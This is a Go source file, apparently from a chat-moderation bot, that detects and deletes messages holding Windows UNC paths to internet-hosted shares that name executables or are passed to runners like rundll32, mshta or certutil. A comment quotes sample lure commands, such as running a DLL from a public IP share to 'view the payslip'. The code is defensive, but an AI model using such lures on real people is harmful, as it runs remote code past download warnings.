package bot

import (
	"net/netip"
	"strings"

	"github.com/immunebot/immune/bot/filetype"
	"github.com/immunebot/immune/bot/linkx"
)

// Windows paths to a share on the Internet (mal48). A worker is told to
// open \\185.22.14.9\share\Offer_Letter.lnk, or to run rundll32
// \\45.133.20.7\docs\Payslip.dll,Start "to view the payslip": Windows
// opens an SMB or WebDAV share on any host a UNC path names and runs the
// program from there, past the download's mark of the web. No link is
// written (linkx reads none), so the message went unjudged. uncShares
// reads a UNC path (\\HOST\SHARE\…, \\HOST@SSL\…, \\HOST@80\…) whose host
// is on the Internet — a public IPv4 address, or a name under a public
// ending (not .local, .lan, .corp, .internal, a single label, localhost,
// wsl$) — and which ends in a program, a script, a shortcut or a
// library (filetype's dangerous kinds), or is given to a Windows runner
// (rundll32, regsvr32, mshta, cscript, wscript, msiexec, powershell, cmd,
// start, net use): it deletes (wImpostorFile). A file server's path on
// the office network (\\fileserver\software\app.msi, \\10.0.0.5\share)
// is how sysadmins deploy programs, and is not read.

// uncRunners are the Windows programs that run what a UNC path names.
var uncRunners = []string{"rundll32", "regsvr32", "mshta", "cscript", "wscript", "msiexec", "powershell", "pwsh",
	"cmd", "start", "net use", "explorer", "certutil", "bitsadmin"}

// mayUNC is the cheap look before uncShare's: a text with two
// backslashes in a row.
func mayUNC(clean string) bool {
	return strings.Contains(clean, `\\`)
}

// uncOnly reports a text with no link that holds a UNC path uncShare
// reads: Classify judges it, where it returns at once for any other
// text with no link.
func uncOnly(clean string) bool {
	if !mayUNC(clean) {
		return false
	}
	path, _ := uncShare(clean)
	return path != ""
}

// uncShare returns the first UNC path in a text to a host on the
// Internet that names a dangerous file or is given to a Windows runner,
// with the runner (or ""), or "", "".
func uncShare(clean string) (string, string) {
	for off := 0; off < len(clean); {
		i := strings.Index(clean[off:], `\\`)
		if i < 0 {
			return "", ""
		}
		at := off + i
		off = at + 2
		for off < len(clean) && clean[off] == '\\' {
			off++ // \\\\host as JSON and Markdown write it
		}
		end := off
		for end < len(clean) && (isAlnum(clean[end]) || clean[end] == '.' || clean[end] == '-' || clean[end] == '@') {
			end++
		}
		host := clean[off:end]
		if end >= len(clean) || clean[end] != '\\' || !outsideHost(host) {
			continue
		}
		stop := end
		for stop < len(clean) && !strings.ContainsRune(" \t\n\"'`,<>|)", rune(clean[stop])) {
			stop++
		}
		path := clean[at:stop]
		runner := ""
		before := clean[max(0, at-40):at]
		for _, r := range uncRunners {
			if lastWordFold(before, r) >= 0 {
				runner = r // a runner's name as a word (not "started")
				break
			}
		}
		f := path[strings.LastIndexByte(path, '\\')+1:]
		if runner == "" && (strings.IndexByte(f, '.') <= 0 || !filetype.Check(f, "").Dangerous()) {
			off = stop
			continue
		}
		return path, runner
	}
	return "", ""
}

// outsideHost reports a UNC path's host (an @SSL or @port after it
// aside) on the Internet: a public IPv4 address, or a name of two labels
// or more under a public ending.
func outsideHost(host string) bool {
	host, _, _ = strings.Cut(host, "@")
	if host == "" || strings.IndexByte(host, '.') < 0 {
		return false // a single label: a server on the office network
	}
	if a, err := netip.ParseAddr(host); err == nil {
		return a.Is4() && a.IsGlobalUnicast() && !a.IsPrivate()
	}
	l, ok := linkx.Parse("http://" + host + "/")
	return ok && l.ICANN && l.Domain != ""
}

// judgeUNC finds a UNC path to a share on the Internet (uncShare) and
// deletes; it reports whether it added a finding.
func judgeUNC(rs *reasons, clean string) bool {
	if !mayUNC(clean) {
		return false
	}
	path, runner := uncShare(clean)
	if path == "" {
		return false
	}
	if runner != "" {
		rs.add(handRule(CodeRunCommand, wImpostorFile, path, say2("unc_run", runner, path)))
		return true
	}
	rs.add(handRule(CodeDangerousFile, wImpostorFile, path, say2("unc_file", path)))
	return true
}

func init() {
	for k, v := range map[string][2]string{
		"unc_run": {
			"the message gives %s a Windows path to a share on the Internet (%s): Windows fetches and runs the program from a stranger's server, past the download's warning",
			"tin nhắn đưa cho %s một đường dẫn Windows tới thư mục chia sẻ trên Internet (%s): Windows tải và chạy chương trình từ máy chủ của người lạ, bỏ qua cảnh báo tải về"},
		"unc_file": {
			"the message names a program on a share on the Internet by a Windows path (%s): opened, Windows runs it from a stranger's server, past the download's warning",
			"tin nhắn chỉ tới một chương trình trên thư mục chia sẻ trên Internet bằng đường dẫn Windows (%s): mở ra, Windows chạy nó từ máy chủ của người lạ, bỏ qua cảnh báo tải về"},
	} {
		englishDetails[k], vietnameseDetails[k] = v[0], v[1]
	}
}
